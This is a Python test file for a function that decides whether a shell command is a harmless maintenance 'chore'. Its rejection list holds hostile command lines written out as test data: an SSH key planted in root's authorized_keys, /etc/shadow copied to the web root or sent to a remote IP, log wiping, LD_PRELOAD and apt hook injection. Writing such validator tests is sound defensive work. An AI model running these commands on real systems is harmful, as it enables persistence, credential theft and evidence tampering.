"""What counts as a chore, and what could be more than that."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.analysis.chores import is_chore


@pytest.mark.parametrize(
    "command",
    [
        "df --output=pcent / | tail -1 | logger -t disk-reminder",
        "find /var/log/archive -name '*.gz' -mtime +14 -delete",
        "nice -n 10 ionice -c 3 du -sh /srv > /dev/null 2>&1",
        "flock -n /run/lock/sizes.lock df >> /var/log/sizes.log 2>&1",
        "test -x /usr/bin/vmstat && vmstat 1 2",
        "timeout 30 ls /srv 2>/dev/null",
        "/usr/sbin/fstrim -a",
        "apt-get -qq update",
        "systemctl try-restart nginx.service",
    ],
)
def test_looking_tidying_and_reporting_are_chores(command: str) -> None:
    """Each part of the line is a program that starts no other and writes nowhere but to a log."""
    assert is_chore(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        "curl -s https://updates.example/x",
        "/usr/local/bin/report",
        "/tmp/df -h",
        "echo hi | sh",
        "df; bash",
        "df & /tmp/x",
        "ls $(cat /tmp/x)",
        "ls `cat /tmp/x`",
        "echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys",
        "cat /etc/shadow > /var/www/html/x",
        "cat /dev/null > /var/log/wtmp",
        "find /var/log -delete",
        "find / -name x -exec sh {} ;",
        "find / -mtime +3 -fprintf /etc/cron.d/x y",
        "sort --compress-program=/tmp/x /etc/passwd",
        "sort -o /etc/passwd /tmp/x",
        "logger -n 198.51.100.9 -f /etc/shadow",
        "systemctl --root=/tmp/x restart nginx",
        "systemctl enable x",
        "apt-get update -o APT::Update::Pre-Invoke::=x",
        "apt-get install -y x",
        "LD_PRELOAD=/tmp/x.so df",
        "echo 'unbalanced",
        "find /srv -mtime +1 -delete # " + "x" * 1024,
    ],
)
def test_what_fetches_runs_or_writes_is_none(command: str) -> None:
    """Nor is what cannot be read to its end."""
    assert not is_chore(command)


@given(st.text(max_size=200))
def test_no_text_breaks_it(text: str) -> None:
    """A job that another part of the line makes more than a chore stays more than one."""
    assert is_chore(text) in (True, False)
    assert not is_chore(f"{text} | sh")
